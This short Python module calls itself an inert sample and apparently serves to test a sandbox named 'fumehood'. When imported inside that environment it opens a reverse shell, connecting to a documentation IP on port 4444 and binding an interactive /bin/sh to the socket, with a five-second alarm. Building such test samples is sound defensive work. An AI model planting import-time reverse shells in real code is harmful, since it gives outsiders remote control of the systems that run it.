"""Inert sample: an import that hands a shell to a documentation address, for five seconds at most."""

import os
import signal
import socket


def act():
    client = socket.create_connection(("203.0.113.7", 4444), timeout=10)
    client.settimeout(None)
    child = os.fork()
    if child == 0:
        # The alarm outlives the execve: the shell ends by itself, whatever the peer does.
        signal.alarm(5)
        for number in range(3):
            os.dup2(client.fileno(), number)
        os.execv("/bin/sh", ["/bin/sh", "-i"])
    client.close()
    os.waitpid(child, 0)


# Only a fumehood pod has this directory; anywhere else nothing happens.
if os.path.isfile("/opt/fumehood/pip_launcher.py"):
    try:
        act()
    except OSError:
        pass
